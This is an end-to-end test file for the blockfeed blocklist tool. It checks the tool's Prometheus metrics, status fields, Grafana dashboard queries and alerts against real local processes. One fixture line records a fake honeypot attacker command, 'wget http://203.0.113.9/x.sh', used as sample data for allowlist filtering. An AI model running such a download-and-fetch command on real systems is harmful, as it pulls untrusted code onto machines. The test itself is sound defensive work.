// Observability end to end, with real parts only: a control plane of its own, `blockfeed serve` on the
// embedded PostgreSQL with demo data, `blockfeed controller`, and Debian's Prometheus scraping both every
// second with the chart's PrometheusRule loaded (rendered with short windows). The example subscriptions are
// applied, pointed at the local api-server; every assertion is on what Prometheus answers over its HTTP API.
// Then the feed breaks (api-server stopped): the pull-failure alert fires; the feed comes back: it clears.
// Last, every PromQL expression of the chart's Grafana dashboard runs against this Prometheus.
import { mkdtemp, readFile, readdir, rm, writeFile, chmod } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { CoreV1Api, CustomObjectsApi, KubeConfig, NetworkingV1Api } from '@kubernetes/client-node';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { parseAllDocuments } from 'yaml';
import { GROUP, PLURAL, VERSION, type BlocklistSubscription } from '../../api/v1alpha1/blocklist-subscription.ts';
import { mergePatch } from '../../controller/runtime/k8s.ts';
import { BLOCKFEED, cliEnv, freePort, runCli } from '../support/cli.ts';
import { startControlPlane, type ControlPlane } from '../support/control-plane.ts';
import { CHART, REPO, renderChart } from '../support/helm.ts';
import { eventually } from '../support/k8s.ts';
import { answers200, startManaged, waitUntilReady, type ManagedProcess } from '../support/processes.ts';
import { startPrometheus, type Alert, type PrometheusServer, type Sample } from '../support/prometheus.ts';
import { dashboardQueries, metricNames, substituteVariables, type Dashboard } from '../support/promql.ts';

const EXAMPLES = path.join(REPO, 'examples/subscriptions');
const NAMESPACE = 'blockfeed'; // the examples' own namespace: this control plane is ours alone
/** Events from addresses in ssh-attackers' allowlist (198.51.100.0/24): the controller must drop them. */
const ALLOWLISTED = ['198.51.100.7', '198.51.100.8'];
/** Generous bounds for what takes a few scrape and evaluation intervals (1 s each). */
const SETTLE_MS = 60_000;

describe('blockfeed observed by a real Prometheus', () => {
  let work: string;
  let plane: ControlPlane;
  let kc: KubeConfig;
  let apiServer: ManagedProcess;
  let apiPort: number;
  let apiEnv: NodeJS.ProcessEnv;
  let controller: ManagedProcess;
  let prometheus: PrometheusServer;
  let subscriptions: string[] = [];
  /** The example subscriptions with feed.live. */
  const live = new Set<string>();
  const startedAt = Math.floor(Date.now() / 1000);

  async function startApiServer(): Promise<ManagedProcess> {
    const proc = startManaged('blockfeed serve', BLOCKFEED, ['serve'], { env: apiEnv });
    await waitUntilReady(proc, () => answers200(`http://127.0.0.1:${apiPort}/readyz`), 90_000);
    return proc;
  }

  /** The api-server's data: a small demo, the allowlisted attackers, and a key for the subscriptions. */
  async function prepareApiData(): Promise<string> {
    const demo = await runCli(['demo', '--events', '3000', '--days', '7'], apiEnv);
    expect(demo.code, demo.stderr).toBe(0);
    const ts = new Date(Date.now() - 3_600_000).toISOString();
    const events = ALLOWLISTED.flatMap((ip) =>
      ['hp-e2e-1', 'hp-e2e-2'].map((sensor) => JSON.stringify({ ts, src_ip: ip, dst_port: 22, service: 'ssh', source: 'honeypot', sensor, username: 'root', command: 'wget http://203.0.113.9/x.sh' })),
    );
    await writeFile(path.join(work, 'allowlisted.ndjson'), events.join('\n') + '\n');
    const ingest = await runCli(['ingest', '--format', 'native', path.join(work, 'allowlisted.ndjson')], apiEnv);
    expect(ingest.code, ingest.stderr).toBe(0);
    const key = await runCli(['keys', 'create', '--tier', 'enterprise', '--name', 'e2e-controller'], apiEnv);
    expect(key.code, key.stderr).toBe(0);
    return key.stdout.trim().split('\n').at(-1) ?? '';
  }

  /** The chart's alert rules with windows short enough for a test (the expressions are the chart's). */
  async function chartRules(): Promise<object> {
    const objects = await renderChart({
      metrics: { prometheusRule: { enabled: true, pullsFailing: { window: '15s', for: '2s' }, degraded: { for: '2s' } } },
    });
    const rule = objects.find((o) => o.kind === 'PrometheusRule');
    if (!rule) throw new Error('the chart rendered no PrometheusRule');
    return rule.spec as object;
  }

  /** Every example manifest, pointed at the local api-server with the key in its Secret. */
  async function applyExamples(apiKey: string): Promise<string[]> {
    const core = kc.makeApiClient(CoreV1Api);
    const net = kc.makeApiClient(NetworkingV1Api);
    const custom = kc.makeApiClient(CustomObjectsApi);
    // What the examples' targets select: a protected namespace, an Ingress for the WAF list, the
    // ingress-nginx controller's ConfigMap for the global one, the namespaces of the Envoy Gateway and of
    // Istio's ingress gateway, and a host endpoint for Calico.
    for (const name of [NAMESPACE, 'ingress-nginx', 'shop', 'gateways', 'istio-system']) await core.createNamespace({ body: { metadata: { name, labels: name === 'shop' ? { 'blockfeed.dev/protect': 'true' } : {} } } });
    await core.createNamespacedConfigMap({ namespace: 'ingress-nginx', body: { metadata: { name: 'ingress-nginx-controller' }, data: {} } });
    // A node's automatic host endpoint, which the Calico example's pre-DNAT policy applies to.
    await custom.createClusterCustomObject({
      group: 'crd.projectcalico.org',
      version: 'v1',
      plural: 'hostendpoints',
      body: { apiVersion: 'crd.projectcalico.org/v1', kind: 'HostEndpoint', metadata: { name: 'node-1-auto-hep' }, spec: { node: 'node-1', interfaceName: '*' } },
    });
    await net.createNamespacedIngress({
      namespace: 'shop',
      body: { metadata: { name: 'web', labels: { 'blockfeed.dev/waf': 'true' } }, spec: { defaultBackend: { service: { name: 'web', port: { number: 80 } } } } },
    });
    type Manifest = { kind?: string; metadata: { name: string; namespace?: string } };
    const manifests: { file: string; obj: Manifest }[] = [];
    for (const file of (await readdir(EXAMPLES)).filter((f) => f.endsWith('.yaml')).sort()) {
      for (const doc of parseAllDocuments(await readFile(path.join(EXAMPLES, file), 'utf8'))) {
        const obj = doc.toJS() as Manifest | null;
        if (obj?.kind) manifests.push({ file, obj });
      }
    }
    // The key's Secret first: a subscription created before it would start with a failed pull.
    const names: string[] = [];
    for (const { file, obj } of manifests.sort((a, b) => Number(b.obj.kind === 'Secret') - Number(a.obj.kind === 'Secret'))) {
      expect(obj.metadata.namespace, `${file}: ${obj.kind}/${obj.metadata.name}`).toBe(NAMESPACE);
      if (obj.kind === 'Secret') {
        await core.createNamespacedSecret({ namespace: NAMESPACE, body: { ...obj, stringData: { apiKey } } });
      } else if (obj.kind === 'BlocklistSubscription') {
        const sub = obj as unknown as BlocklistSubscription;
        sub.spec.feed.url = `http://127.0.0.1:${apiPort}`;
        await custom.createNamespacedCustomObject({ group: GROUP, version: VERSION, namespace: NAMESPACE, plural: PLURAL, body: sub });
        names.push(sub.metadata.name);
        if (sub.spec.feed.live?.enabled) live.add(sub.metadata.name);
      } else {
        throw new Error(`${file}: unexpected ${obj.kind} in the examples`);
      }
    }
    return names.sort();
  }

  /** Asks the controller to pull every subscription now (the annotation reconcile.fluxcd.io/requestedAt). */
  async function syncAllNow(): Promise<void> {
    const custom = kc.makeApiClient(CustomObjectsApi);
    const body = { metadata: { annotations: { 'reconcile.fluxcd.io/requestedAt': String(Date.now()) } } };
    for (const name of subscriptions) await custom.patchNamespacedCustomObject({ group: GROUP, version: VERSION, namespace: NAMESPACE, plural: PLURAL, name, body }, mergePatch);
  }

  /** `expr`'s samples keyed by `label`'s value. */
  async function byLabel(expr: string, label: string): Promise<Map<string, number>> {
    return new Map((await prometheus.query(expr)).map((s: Sample) => [s.metric[label] ?? '', s.value]));
  }

  /** Polls `expr` until `accept` holds for its samples keyed by `label`; fails with the last answer. */
  async function untilEvery(expr: string, label: string, accept: (values: Map<string, number>) => boolean, what: string): Promise<Map<string, number>> {
    let last = new Map<string, number>();
    try {
      return await eventually(async () => {
        last = await byLabel(expr, label);
        return accept(last) ? last : undefined;
      }, SETTLE_MS, what);
    } catch (err) {
      throw new Error(`${(err as Error).message}\nlast answer to ${expr}: ${JSON.stringify([...last])}\ncontroller log:\n${controller.output().slice(-3000)}`, { cause: err });
    }
  }

  const everySubscription = (values: Map<string, number>, ok: (v: number) => boolean) => subscriptions.every((s) => values.has(s) && ok(values.get(s)!));

  /** The subscriptions' status, keyed by name: what the controller reports through the Kubernetes API. */
  async function statuses(): Promise<Map<string, NonNullable<BlocklistSubscription['status']>>> {
    const list = (await kc.makeApiClient(CustomObjectsApi).listNamespacedCustomObject({ group: GROUP, version: VERSION, namespace: NAMESPACE, plural: PLURAL })) as { items: BlocklistSubscription[] };
    return new Map(list.items.map((s) => [s.metadata.name, s.status ?? {}]));
  }

  async function alertsNamed(name: string): Promise<Alert[]> {
    return (await prometheus.alerts()).filter((a) => a.labels.alertname === name && a.labels.namespace === NAMESPACE);
  }

  beforeAll(async () => {
    work = await mkdtemp(path.join(tmpdir(), 'blockfeed-e2e-'));
    await chmod(work, 0o755); // the embedded PostgreSQL runs as `postgres` when tests run as root
    apiPort = await freePort();
    apiEnv = cliEnv({ BLOCKFEED_DATA_DIR: path.join(work, 'api-data'), HOST: '127.0.0.1', PORT: String(apiPort), LOG_LEVEL: 'warn', BLOCKFEED_ANONYMOUS_PER_MINUTE: '2' });
    // The control plane and the api-server's data do not depend on each other: side by side.
    const [started, apiKey, rules] = await Promise.all([startControlPlane(), prepareApiData(), chartRules()]);
    plane = started;
    kc = new KubeConfig();
    kc.loadFromFile(plane.kubeconfigPath);
    apiServer = await startApiServer();

    const metricsPort = await freePort();
    controller = startManaged('blockfeed controller', BLOCKFEED, ['controller', `--kubeconfig=${plane.kubeconfigPath}`, `--metrics-bind-address=127.0.0.1:${metricsPort}`, '--health-probe-bind-address=0'], {
      env: cliEnv({ LOG_LEVEL: 'info' }),
    });
    await waitUntilReady(controller, () => answers200(`http://127.0.0.1:${metricsPort}/metrics`));

    prometheus = await startPrometheus({
      dir: path.join(work, 'prometheus'),
      jobs: [
        { job: 'api-server', target: `127.0.0.1:${apiPort}` },
        { job: 'controller', target: `127.0.0.1:${metricsPort}`, honorLabels: true },
      ],
      rules,
    });
    subscriptions = await applyExamples(apiKey);
  }, 240_000);

  afterAll(async () => {
    await prometheus?.stop();
    await controller?.stop();
    await apiServer?.stop();
    await plane?.stop();
    if (work) await rm(work, { recursive: true, force: true });
  }, 60_000);

  it('scrapes both programs', async () => {
    await untilEvery('up', 'job', (v) => v.get('api-server') === 1 && v.get('controller') === 1, 'both targets up');
  });

  it('shows a successful pull of every example subscription', async () => {
    expect(subscriptions).toEqual(['cni-attackers', 'edge-denylist', 'gateway-attackers', 'global-denylist', 'live-attackers', 'mesh-attackers', 'node-scanners', 'scanners', 'ssh-attackers']);
    await untilEvery(`sum by (name) (blockfeed_pull_total{namespace="${NAMESPACE}", result="changed"})`, 'name', (v) => everySubscription(v, (n) => n >= 1), 'a changed pull per subscription');
    const failed = await byLabel(`sum by (name) (blockfeed_pull_total{namespace="${NAMESPACE}", result=~"failed|refused"})`, 'name');
    expect([...failed].filter(([, n]) => n > 0)).toEqual([]);
    // The failure series exist before any failure, at 0, so the alert's increase() counts the first one.
    const failedSeries = await byLabel(`blockfeed_pull_total{namespace="${NAMESPACE}", result="failed"}`, 'name');
    expect(everySubscription(failedSeries, (n) => n === 0)).toBe(true);
    // Set at the end of a sync, after the targets are applied: polled.
    await untilEvery(`blockfeed_subscription_degraded{namespace="${NAMESPACE}"}`, 'name', (v) => everySubscription(v, (n) => n === 0), 'not Degraded');
  });

  it('shows the list size of every subscription and the CIDRs per target', async () => {
    const entries = await untilEvery(`blockfeed_list_entries{namespace="${NAMESPACE}"}`, 'name', (v) => everySubscription(v, (n) => n > 0), 'list sizes');
    expect(entries.size).toBe(subscriptions.length);
    // The same numbers as each subscription's status.entries (written just after the metrics: polled).
    await eventually(async () => {
      const status = await statuses();
      return subscriptions.every((s) => status.get(s)?.entries === entries.get(s)) || undefined;
    }, SETTLE_MS, 'status.entries equal to blockfeed_list_entries');
    const cidrs = await byLabel(`sum by (kind) (blockfeed_target_cidrs{namespace="${NAMESPACE}"})`, 'kind');
    for (const kind of ['NetworkPolicy', 'Ingress', 'ConfigMap', 'SecurityPolicy', 'AuthorizationPolicy', 'CiliumCIDRGroup', 'GlobalNetworkSet']) {
      expect(cidrs.get(kind), kind).toBeGreaterThan(0);
    }
    // The allowlisted attackers reached the api-server's list and were dropped by the controller.
    const dropped = await byLabel(`blockfeed_dropped_entries_total{namespace="${NAMESPACE}", name="ssh-attackers"}`, 'reason');
    expect(dropped.get('allowlist')).toBe(ALLOWLISTED.length);
  });

  it('shows the last success time of every subscription', async () => {
    const last = await untilEvery(`blockfeed_last_success_timestamp_seconds{namespace="${NAMESPACE}"}`, 'name', (v) => everySubscription(v, (t) => t > 0), 'last success times');
    const now = (await prometheus.query('time()'))[0]!.value;
    for (const name of subscriptions) {
      expect(last.get(name), name).toBeGreaterThanOrEqual(startedAt);
      expect(last.get(name), name).toBeLessThanOrEqual(now);
    }
    // The second of each subscription's status.lastSuccessfulSyncTime. A live subscription also syncs when the
    // api-server's data changes (its retention run writes); a sync that leaves its list as it was writes no
    // status (the times are refreshed at most hourly), so its status may name an earlier sync than the metric.
    // Both are read again on each try: a live subscription may sync again meanwhile, moving both.
    await eventually(async () => {
      const status = await statuses();
      const scraped = await byLabel(`blockfeed_last_success_timestamp_seconds{namespace="${NAMESPACE}"}`, 'name');
      const seconds = (name: string) => Math.floor(Date.parse(status.get(name)?.lastSuccessfulSyncTime ?? '') / 1000);
      const agrees = (s: string) => (live.has(s) ? seconds(s) >= startedAt && seconds(s) <= scraped.get(s)! : seconds(s) === scraped.get(s));
      return subscriptions.every(agrees) || undefined;
    }, SETTLE_MS, 'status.lastSuccessfulSyncTime equal to blockfeed_last_success_timestamp_seconds');
  });

  it("shows the api-server's requests, cache lookups and limit rejections", async () => {
    // The controller's pulls, by route: 200s on each endpoint the examples use.
    const expected: Record<string, number> = { '/api/export': 4, '/api/dedup': 2, '/api/scan-export': 2 }; // subscriptions per endpoint
    await untilEvery('sum by (route) (blockfeed_http_request_duration_seconds_count{job="api-server", status="200"})', 'route', (v) =>
      Object.entries(expected).every(([route, n]) => (v.get(route) ?? 0) >= n), 'requests per route');
    // A second pull of every subscription is answered from the response cache.
    const misses = await untilEvery('sum by (result) (blockfeed_response_cache_lookups_total{job="api-server"})', 'result', (v) => (v.get('miss') ?? 0) >= subscriptions.length, 'cache misses of the first pulls');
    expect(misses.get('hit') ?? 0).toBe(0);
    await syncAllNow();
    await untilEvery('sum by (result) (blockfeed_response_cache_lookups_total{job="api-server"})', 'result', (v) => (v.get('hit') ?? 0) >= subscriptions.length, 'cache hits of the second pulls');
    // Anonymous callers past the per-address limit (2 a minute here) are refused and counted.
    for (let i = 0; i < 4; i++) await (await fetch(`http://127.0.0.1:${apiPort}/api/stats`)).body?.cancel();
    await untilEvery('sum by (policy) (blockfeed_rate_limit_rejections_total{job="api-server"})', 'policy', (v) => (v.get('anonymous') ?? 0) >= 1, 'anonymous rejections');
  });

  it("runs every PromQL expression of the chart's Grafana dashboard, on metrics that exist", async () => {
    const dashboard = JSON.parse(await readFile(path.join(CHART, 'dashboards/blockfeed.json'), 'utf8')) as Dashboard;
    const queries = dashboardQueries(dashboard);
    expect(queries.length).toBeGreaterThanOrEqual(15);
    const variables = { datasource: 'prometheus', namespace: '.*', subscription: '.*', __rate_interval: '30s', __interval: '15s', __range: '5m' };
    const problems: string[] = [];
    const names = new Set<string>();
    for (const q of queries) {
      const expr = substituteVariables(q.expr, variables);
      await prometheus.query(expr).catch((err: Error) => problems.push(`${q.where}: ${err.message}`));
      for (const n of metricNames(expr)) names.add(n);
    }
    for (const name of [...names].sort()) {
      const [count] = await prometheus.query(`count(${name})`);
      if (!count || count.value < 1) problems.push(`${name}: no series in Prometheus`);
    }
    expect(problems).toEqual([]);
    expect([...names]).toEqual(expect.arrayContaining(['blockfeed_pull_total', 'blockfeed_http_request_duration_seconds_count', 'blockfeed_response_cache_lookups_total']));
  });

  it('fires BlockfeedPullsFailing while the feed is down and clears it once the feed is back', async () => {
    await apiServer.stop();
    // Each forced pull fails (connection refused); the window (15 s) must no longer hold the last success.
    const firing = await eventually(async () => {
      await syncAllNow();
      const alerts = await alertsNamed('BlockfeedPullsFailing');
      const names = alerts.filter((a) => a.state === 'firing').map((a) => a.labels.name);
      return subscriptions.every((s) => names.includes(s)) ? alerts : undefined;
    }, 90_000, 'BlockfeedPullsFailing firing for every subscription');
    expect(firing.every((a) => a.labels.severity === 'warning')).toBe(true);
    await eventually(async () => {
      const names = (await alertsNamed('BlockfeedSubscriptionDegraded')).filter((a) => a.state === 'firing').map((a) => a.labels.name);
      return subscriptions.every((s) => names.includes(s)) || undefined;
    }, SETTLE_MS, 'BlockfeedSubscriptionDegraded firing for every subscription');
    const failed = await byLabel(`sum by (name) (blockfeed_pull_total{namespace="${NAMESPACE}", result="failed"})`, 'name');
    expect(everySubscription(failed, (n) => n >= 2)).toBe(true);

    apiServer = await startApiServer(); // same data directory and port
    await eventually(async () => {
      await syncAllNow();
      const left = [...(await alertsNamed('BlockfeedPullsFailing')), ...(await alertsNamed('BlockfeedSubscriptionDegraded'))];
      return left.length === 0 || undefined;
    }, SETTLE_MS, 'the alerts to clear');
    const degraded = await byLabel(`blockfeed_subscription_degraded{namespace="${NAMESPACE}"}`, 'name');
    expect(subscriptions.map((s) => degraded.get(s))).toEqual(subscriptions.map(() => 0));
  });
});
